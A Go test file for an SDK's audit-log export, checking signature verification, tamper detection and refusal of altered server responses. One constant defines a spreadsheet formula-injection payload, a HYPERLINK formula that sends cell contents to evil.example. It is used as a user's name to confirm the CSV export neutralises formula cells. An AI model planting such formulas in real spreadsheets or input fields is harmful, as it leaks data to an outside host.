package attune_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	attune "github.com/attune-vf/attune/client-sdk"
	"github.com/attune-vf/attune/client-sdk/wire"
	"github.com/attune-vf/attune/policies"
)

// audited is a service where things happened, and its IG officer.
type audited struct {
	*service
	ig   *attune.Client
	sam  *attune.Client
	clip policies.ClipID
}

// formula is a name that a spreadsheet would run.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"Sam, or not")`

func newAudited(t *testing.T) audited {
	t.Helper()
	s := newService(t)
	a := audited{service: s, ig: s.hire(policies.IGOfficer, "Ivy Gold"), sam: s.hire(policies.Practitioner, formula)}
	f := s.family(a.sam)
	a.clip = f.add(t, film(t, "visit.mp4"), "").Clip
	s.sync(a.sam)
	must(t, a.sam.Clips.SaveCopy(context.Background(), a.clip, filepath.Join(t.TempDir(), "copy.mp4"), "asked for, with \"quotes\""))
	s.sync(a.ig)
	return a
}

func (a audited) export(in attune.LogFilter) (string, attune.LogExported) {
	a.t.Helper()
	dir := filepath.Join(a.t.TempDir(), "export")
	x, err := a.ig.Log.Export(context.Background(), in, dir, nil)
	must(a.t, err)
	return dir, x
}

// copyOf is an export to lie with.
func copyOf(t *testing.T, dir string) string {
	t.Helper()
	to := filepath.Join(t.TempDir(), "copy")
	must(t, os.CopyFS(to, os.DirFS(dir)))
	return to
}

func TestLogExport(t *testing.T) {
	t.Parallel()
	a := newAudited(t)
	for name, in := range map[string]attune.LogFilter{
		"Whole":  {},
		"Family": {Family: "NF-1042"},
		"Thing":  {Object: policies.StatementID(a.clip)},
		"Empty":  {Rule: "NO-SUCH-RULE"},
	} {
		t.Run(name, func(t *testing.T) {
			dir, x := a.export(in)
			part := name != "Whole"
			if x.Part != part || name != "Empty" && x.Rows < 2 || !part && x.Rows != x.Size {
				t.Errorf("%+v", x)
			}
			files := os.DirFS(dir)
			alone, err := attune.VerifyLogExport(files, "", nil)
			if err != nil || !alone.OK || !alone.Names || alone.Known || alone.Rows != x.Rows || alone.Part != part {
				t.Errorf("without a device: %+v, %v", alone, err)
			}
			mine, err := a.ig.Log.VerifyExport(files, nil)
			if err != nil || !mine.OK || !mine.Known || !part && mine.Seen < 5 {
				t.Errorf("at the officer's desk: %+v, %v", mine, err)
			}
			stock(t, dir, fmt.Sprintf("GOOD: %d rows", x.Rows))
			if err := os.RemoveAll(filepath.Join(dir, "names")); err != nil {
				t.Fatal(err)
			}
			if r, err := a.ig.Log.VerifyExport(files, nil); err != nil || !r.OK || r.Names {
				t.Errorf("without names: %+v, %v", r, err)
			}
			stock(t, dir, "GOOD")
		})
	}
}

// commandsOf are the commands that an export's VERIFY.txt prints.
func commandsOf(t *testing.T, dir string) []string {
	t.Helper()
	how, err := os.ReadFile(filepath.Join(dir, "VERIFY.txt"))
	must(t, err)
	var commands []string
	for line := range strings.Lines(string(how)) {
		if strings.HasPrefix(line, "# BEGIN") {
			break
		}
		if strings.HasPrefix(line, "  sed ") || strings.HasPrefix(line, "  tail ") || strings.HasPrefix(line, "  openssl ") || strings.HasPrefix(line, "  python3 ") {
			commands = append(commands, strings.TrimSpace(line))
		}
	}
	if len(commands) != 5 {
		t.Fatalf("VERIFY.txt prints the commands %q", commands)
	}
	return commands
}

// TestLogExportIsAnEvent: with what was asked for, and before anything was sent.
func TestLogExportIsAnEvent(t *testing.T) {
	t.Parallel()
	a := newAudited(t)
	a.lose("/v1/log/export")
	dir := filepath.Join(t.TempDir(), "export")
	if _, err := a.ig.Log.Export(context.Background(), attune.LogFilter{Family: "NF-1042", Rule: "COPY-TEAM"}, dir, nil); !attune.Offline(err) {
		t.Errorf("cut off: %v, want offline", err)
	}
	a.spoil.Store(nil)
	if _, err := os.Stat(dir); err == nil {
		t.Error("an export that failed left a folder")
	}
	found, _, err := a.ig.Log.Search(context.Background(), attune.LogFilter{Action: "log.export"})
	must(t, err)
	if len(found) != 1 || !strings.HasPrefix(found[0].Detail, `family "NF-1042", rule "COPY-TEAM"`+"\n") || found[0].Family != "NF-1042" {
		t.Errorf("the export is recorded as %+v", found)
	}
}

// TestLogUnknownFamily: a mistyped number is told in words, and an identifier is
// as good as a reference.
func TestLogUnknownFamily(t *testing.T) {
	t.Parallel()
	a := newAudited(t)
	f, err := a.ig.Families.Find("NF-1042")
	must(t, err)
	for _, known := range []string{"NF-1042", f.String()} {
		if found, _, err := a.ig.Log.Search(context.Background(), attune.LogFilter{Family: known}); err != nil || len(found) == 0 {
			t.Errorf("%s: %d events, %v", known, len(found), err)
		}
	}
	_, _, searched := a.ig.Log.Search(context.Background(), attune.LogFilter{Family: "NOPE"})
	_, exported := a.ig.Log.Export(context.Background(), attune.LogFilter{Family: "NOPE"}, filepath.Join(t.TempDir(), "x"), nil)
	for _, err := range []error{searched, exported} {
		if attune.CodeOf(err) != attune.CodeUnknown || !strings.Contains(err.Error(), `No family "NOPE" is known to this service`) {
			t.Errorf("%v, want that no such family is known", err)
		}
	}
	// Whoever may not read the log learns nothing of references from it.
	for _, ref := range []string{"NOPE", "NF-1042"} {
		if _, _, err := a.sam.Log.Search(context.Background(), attune.LogFilter{Family: ref}); attune.CodeOf(err) != wire.CodeDenied {
			t.Errorf("a practitioner searches for %s: %v, want denied", ref, err)
		}
	}
}

// TestLogExportTable: the table reads like the log, and runs nothing.
func TestLogExportTable(t *testing.T) {
	t.Parallel()
	a := newAudited(t)
	dir, x := a.export(attune.LogFilter{})
	raw, err := os.ReadFile(filepath.Join(dir, "names", "events.csv"))
	must(t, err)
	table, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	must(t, err)
	if int64(len(table)) != x.Rows+1 {
		t.Fatalf("%d lines for %d rows", len(table), x.Rows)
	}
	var copied, named bool
	for _, row := range table[1:] {
		for _, c := range row {
			if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r\n") {
				t.Errorf("row %s has the cell %q", row[0], c)
			}
		}
		named = named || row[5] == "practitioner "+formula
		copied = copied || row[2] == "clip.copy" && row[6] == "NF-1042" && row[9] == `asked for, with "quotes"` && row[10] == "127.0.0.1"
	}
	if !copied || !named {
		t.Errorf("the copy with its reason: %v; the person's name: %v", copied, named)
	}
	rest, err := os.ReadFile(filepath.Join(dir, "events.ndjson"))
	must(t, err)
	for _, private := range []string{"HYPERLINK", "NF-1042", "127.0.0.1", "asked for"} {
		if bytes.Contains(rest, []byte(private)) {
			t.Errorf("%q stands outside the folder of names", private)
		}
	}
}

// TestLogExportLies changes one thing in an export: each is refused in a sentence
// that names the row, or the file where no row is at fault.
func TestLogExportLies(t *testing.T) {
	t.Parallel()
	a := newAudited(t)
	whole, x := a.export(attune.LogFilter{})
	part, _ := a.export(attune.LogFilter{Action: "staff.invite"})
	other := newAudited(t)
	foreign, _ := other.export(attune.LogFilter{})
	for _, c := range []struct {
		name, dir, file string
		how             func(b []byte) []byte
		want            string // in a fault, or in the error
		python          bool   // sees it as well
	}{
		{"ByteFlipped", whole, "events.ndjson", replace(`"n":7,`, `"n":8,`), "row 7", true},
		{"RowDropped", whole, "events.ndjson", drop(7), "row 7", true},
		{"RowsReordered", whole, "events.ndjson", swap(7), "row 7", true},
		{"RowAltered", whole, "events.ndjson", line(7, `"out":"done"`, `"out":"denied"`), "row 7", true},
		{"Truncated", whole, "events.ndjson", shorten(30), fmt.Sprintf("row %d", x.Rows-1), true},
		{"BundleFlipped", whole, fmt.Sprintf("tile/entries/000.p/%d", x.Rows), replace(`"n":7,`, `"n":8,`), "row 7", false},
		{"TileFlipped", whole, fmt.Sprintf("tile/0/000.p/%d", x.Rows), func(b []byte) []byte { b[7*32] ^= 1; return b }, "row 7", false},
		{"TileGone", whole, fmt.Sprintf("tile/0/000.p/%d", x.Rows), nil, "rows 0 to", false},
		{"TableFlipped", whole, "names/events.csv", line(8, `"done"`, `"denied"`), "row 7: names/events.csv", false},
		{"TableRowDropped", whole, "names/events.csv", drop(8), "row 7: names/events.csv", false},
		{"TableLonger", whole, "names/events.csv", func(b []byte) []byte { return append(b, "\"x\"\r\n"...) }, "names/events.csv goes on", false},
		{"NameFlipped", whole, "names/names.csv", replace("Ivy", "Eve"), "names/events.csv", false},
		{"NamesCut", whole, "names/names.csv", shorten(1), "names.csv cannot be read", false},
		{"DetailFlipped", whole, "names/details.ndjson", replace("127.0.0.1", "127.0.0.2"), "its detail is not the one that was logged", false},
		{"DetailOfAnotherRow", whole, "names/details.ndjson", replace(`{"n":`, `{"n":9`), "names/events.csv says something else", false},
		{"CheckpointFlipped", whole, "checkpoint", func(b []byte) []byte { b[len(b)-9] ^= 1; return b }, "not one that this key signed", false},
		{"CheckpointForeign", whole, "checkpoint", theirs(t, foreign, "checkpoint"), "not one that this key signed", false},
		{"KeyForeign", whole, "log.vkey", theirs(t, foreign, "log.vkey"), "log.vkey or export.json names another key", false},
		{"PEMForeign", whole, "log.pem", theirs(t, foreign, "log.pem"), "log.pem is not the key that signed", false},
		{"RowsOfAnother", whole, "events.ndjson", theirs(t, foreign, "events.ndjson"), "row", true},
		{"CountChanged", whole, "export.json", replace(`"rows": `, `"rows": 1`), "the last here", false},
		{"NoAbout", whole, "export.json", nil, "export.json cannot be read", false},
		{"NoEvents", whole, "events.ndjson", nil, "cannot be read", false},
		{"PartRowAltered", part, "events.ndjson", line(1, `"out":"done"`, `"out":"denied"`), "row", true},
		{"PartRowDropped", part, "events.ndjson", drop(1), "row", true},
		{"PartProofsSwapped", part, "proofs.ndjson", swap(0), "row", true},
		{"PartTruncated", part, "proofs.ndjson", shorten(9), "row", false},
		{"PartCheckpointForeign", part, "checkpoint", theirs(t, foreign, "checkpoint"), "not one that this key signed", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := copyOf(t, c.dir)
			spoilFile(t, filepath.Join(dir, c.file), c.how)
			r, err := a.ig.Log.VerifyExport(os.DirFS(dir), nil)
			said := fmt.Sprint(strings.Join(r.Faults, "\n"), err)
			if r.OK || !strings.Contains(said, c.want) {
				t.Errorf("%+v, %v; want %q", r, err, c.want)
			}
			if c.python {
				stock(t, dir, "WRONG")
			}
		})
	}
	t.Run("AnotherService", func(t *testing.T) {
		if r, err := a.ig.Log.VerifyExport(os.DirFS(foreign), nil); attune.CodeOf(err) != attune.CodeUntrusted || r.OK {
			t.Errorf("another service's export: %+v, %v", r, err)
		}
		if r, err := attune.VerifyLogExport(os.DirFS(foreign), x.Key, nil); attune.CodeOf(err) != attune.CodeUntrusted || r.OK {
			t.Errorf("with the key named: %+v, %v", r, err)
		}
	})
}

func spoilFile(t *testing.T, path string, how func([]byte) []byte) {
	t.Helper()
	if how == nil {
		must(t, os.Remove(path))
		return
	}
	b, err := os.ReadFile(path)
	must(t, err)
	changed := how(bytes.Clone(b))
	if bytes.Equal(changed, b) {
		t.Fatalf("%s is as it was", path)
	}
	must(t, os.WriteFile(path, changed, 0o600))
}

func replace(from, to string) func([]byte) []byte {
	return func(b []byte) []byte { return bytes.Replace(b, []byte(from), []byte(to), 1) }
}

func lines(b []byte) [][]byte { return bytes.SplitAfter(b, []byte("\n")) }

func line(n int, from, to string) func([]byte) []byte {
	return func(b []byte) []byte {
		l := lines(b)
		l[n] = replace(from, to)(l[n])
		return bytes.Join(l, nil)
	}
}

func drop(n int) func([]byte) []byte {
	return func(b []byte) []byte {
		l := lines(b)
		return bytes.Join(append(l[:n:n], l[n+1:]...), nil)
	}
}

func swap(n int) func([]byte) []byte {
	return func(b []byte) []byte {
		l := lines(b)
		l[n], l[n+1] = l[n+1], l[n]
		return bytes.Join(l, nil)
	}
}

func shorten(n int) func([]byte) []byte { return func(b []byte) []byte { return b[:len(b)-n] } }

func theirs(t *testing.T, dir, name string) func([]byte) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, name))
	must(t, err)
	return func([]byte) []byte { return b }
}

// TestLogExportHostile: a server that changes what it sends is refused while it is
// written, and nothing is left behind.
func TestLogExportHostile(t *testing.T) {
	t.Parallel()
	a := newAudited(t)
	for name, lie := range map[string]func(l [][]byte) [][]byte{
		"RowLeftOut":  func(l [][]byte) [][]byte { return append(l[:3:3], l[4:]...) },
		"RowTwice":    func(l [][]byte) [][]byte { return append(l[:3:3], l[2:]...) },
		"LastLeftOut": func(l [][]byte) [][]byte { return append(l[:len(l)-3:len(l)-3], l[len(l)-2:]...) },
		"Altered": func(l [][]byte) [][]byte {
			l[3] = replace(`\"out\":\"done\"`, `\"out\":\"denied\"`)(l[3])
			return l
		},
		"DetailAltered": func(l [][]byte) [][]byte {
			for i := range l {
				l[i] = replace(`\n127.0.0.1"`, `\n127.0.0.2"`)(l[i])
			}
			return l
		},
		"NoEnd":    func(l [][]byte) [][]byte { return l[:len(l)-2] },
		"NoStart":  func(l [][]byte) [][]byte { return l[1:] },
		"More":     func(l [][]byte) [][]byte { return append(l[:len(l)-1], l[2], nil) },
		"Garbage":  func(l [][]byte) [][]byte { l[2] = []byte("{}\n"); return l },
		"HalfLine": func(l [][]byte) [][]byte { l[2] = l[2][:9]; return l[:3] },
		"CalledPart": func(l [][]byte) [][]byte {
			l[0] = replace(`"part":false`, `"part":true`)(l[0])
			return l
		},
	} {
		t.Run(name, func(t *testing.T) {
			a.alter("/v1/log/export", func(b []byte) []byte { return bytes.Join(lie(lines(b)), nil) })
			defer a.spoil.Store(nil)
			dir := filepath.Join(t.TempDir(), "export")
			_, err := a.ig.Log.Export(context.Background(), attune.LogFilter{}, dir, nil)
			if code := attune.CodeOf(err); code != attune.CodeUntrusted && code != attune.CodeOffline {
				t.Errorf("%v, want refused", err)
			}
			if _, err := os.Stat(dir); err == nil {
				t.Error("it left a folder")
			}
		})
	}
}
